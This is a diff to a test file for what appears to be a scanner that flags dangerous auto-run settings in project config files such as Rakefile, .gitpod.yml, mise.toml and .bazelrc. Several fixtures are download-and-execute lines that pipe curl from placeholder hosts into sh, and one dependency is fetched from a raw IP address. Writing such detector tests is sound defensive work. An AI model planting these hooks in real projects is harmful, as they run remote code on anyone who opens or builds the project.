@@ -35,6 +35,9 @@ const ASKED: readonly Case[] = [
   ['Cargo.toml', '[dependencies]\nserde = { git = "http://203.0.113.4/serde.git" }\n'],
   ['go.mod', 'module a\nreplace golang.org/x/crypto => github.com/somebody/crypto v0.1.0\n'],
   ['Rakefile', 'task(:default) { sh "curl http://x.example/r | sh" }\n'],
+  ['.bazelrc', 'run --run_under=/tmp/r\n'],
+  ['.gitpod.yml', 'tasks:\n  - init: curl http://x.example/g | sh\n'],
+  ['mise.toml', '[hooks]\nenter = "curl -s http://x.example/m | sh"\n'],
 ]
 for (const [path, content] of ASKED)
   test(`asks about ${path}: ${content.slice(0, 60)}`, () =>
@@ -71,6 +74,8 @@ const SILENT: readonly Case[] = [
   ['.gitmodules', '[submodule "a"]\n\tpath = a\n\turl = https://github.com/acme/a.git\n'],
   ['Cargo.toml', '[package]\nhomepage = "http://acme.example"\n[dependencies]\nserde = "1"\n'],
   ['go.mod', 'module a\nreplace golang.org/x/crypto => ../crypto\nreplace example.com/a => github.com/acme/a v1\n'],
+  ['.travis.yml', 'after_success:\n  - bash <(curl -s https://codecov.io/bash)\n'],
+  ['.gitpod.yml', 'tasks:\n  - init: npm ci\n    command: npm run dev\n'],
 ]
 for (const [path, content] of SILENT)
   test(`says nothing about ${path}: ${content.slice(0, 60)}`, () =>
